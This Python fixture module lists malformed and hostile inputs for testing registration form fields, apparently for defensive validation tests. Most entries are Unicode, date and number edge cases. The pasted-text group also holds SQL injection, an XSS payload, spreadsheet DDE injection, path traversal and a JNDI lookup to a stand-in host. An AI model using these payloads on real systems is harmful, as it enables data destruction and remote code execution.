"""What people, clipboards and other programs put into a field that asks for something else."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

_NIK = "3273025206019002"

NAMES: Mapping[str, str] = MappingProxyType(
    {
        "right to left": "محمد علي",
        "an override": "Siti\u202eATIN\u202c",
        "isolates": "\u2066Siti\u2069\u200f",
        "emoji": "Siti \U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
        "a storm of accents": "S" + "\u0301" * 300 + "iti",
        "accents apart": "A\u0308u\u0308o\u0308",
        "another script": "สมชาย 王小明 Сити",
        "lookalikes": "S\u0456t\u0456 Nur\u04bbal\u0456za",
        "zero width": "Si\u200bti\u2060 Nur\ufeffhaliza\u00ad",
        "private use": "\ue000\U0010fffd",
        "no character": "\uffff\ufdd0",
        "tags": "Siti\U000e0041\U000e007f",
        "only marks": "'.-'.-",
        "only spaces": " \u00a0\u2003\u3000\t",
        "sharp s": "ßßßß ﬃ ŉ ǰ",
    }
)
DATES: Mapping[str, str] = MappingProxyType(
    {
        "no such day": "31-02-1990",
        "a leap day that was none": "29-02-2001",
        "all nines": "99-99-9999",
        "all zeros": "00-00-0000",
        "year first": "1990-13-40",
        "a year of five": "01-01-19900",
        "an unknown month": "15 Smarch 1998",
        "negative": "-1--1--1",
        "a fraction": "1/2/3/4",
        "the end of time": "31-12-9999",
    }
)
NUMBERS: Mapping[str, str] = MappingProxyType(
    {
        "full width": "".join(chr(0xFF10 + int(digit)) for digit in _NIK),
        "Arabic-Indic": "٣٢٧٣٠٢٥٢٠٦٠١٩٠٠٢",
        "superscripts": "³²⁷³⁰²⁵²⁰⁶⁰¹⁹⁰⁰²",
        "Roman": "ⅫⅫⅫⅫ",
        "digits with invisible company": "3273\u200b0252\u200d0601\ufeff9002",
        "science": "3.27302E+15",
        "infinity": "1e999",
        "no number": "NaN",
        "negative number": "-3273025206019002",
        "underscores": "3273_0252_0601_9002",
        "seventeen": f"{_NIK}1",
        "letters for digits": "32730252O6OI9OO2",
        "a phone of dashes": "+62--------8",
        "an at too many": "a@@b@c.d",
        "a very long domain": "a@" + "b." * 200 + "id",
    }
)
PASTED: Mapping[str, str] = MappingProxyType(
    {
        "NUL": "Si\0ti",
        "controls": "\x01\x07\x1b[31mSiti\x7f\x85",
        "half a character": "Siti\ud83d",
        "the other half": "\udc00Siti",
        "halves the wrong way round": "\ude00\ud83d",
        "ten thousand": "A" * 10_000,
        "ten thousand words": "siti " * 2_000,
        "a million": "9" * 1_000_000,
        "a million accents": "\u0301" * 1_000_000,
        "lines and tabs": "Siti\nNurhaliza\r\n\tRahma\u2028x\u2029y\x0bz\x0c",
        "an empty line": "\n",
        "SQL": "'; DROP TABLE registration; --",
        "a full-text query": '"siti" OR * NEAR(a b) -c ^d {e}: f*',
        "HTML": "<b>Siti</b><img src=x onerror=alert(1)>&amp;&#0;",
        "a stylesheet": "QWidget { background: red } */ url(x)",
        "braces": "{label} {0} {nik!r} {{ } {",
        "percents": "%n %1 %L2 %s %(x)s %%",
        "a formula": '=HYPERLINK("http://example.id";"x")',
        "a plus": "+cmd|' /C calc'!A0",
        "an at": "@SUM(A1:A9)",
        "a minus": "-1+1",
        "a path": "../../../../" + "x" * 300,
        "a template": "${jndi:ldap://example.id/a}",
        "JSON": '{"nik": "' + _NIK + '", "x": [1, null]}',
        "an escape": "\\u202e\\x00\\n",
        "a key": "&Siti &Nurhaliza",
    }
)
CORPUS: Mapping[str, str] = MappingProxyType({**NAMES, **DATES, **NUMBERS, **PASTED})
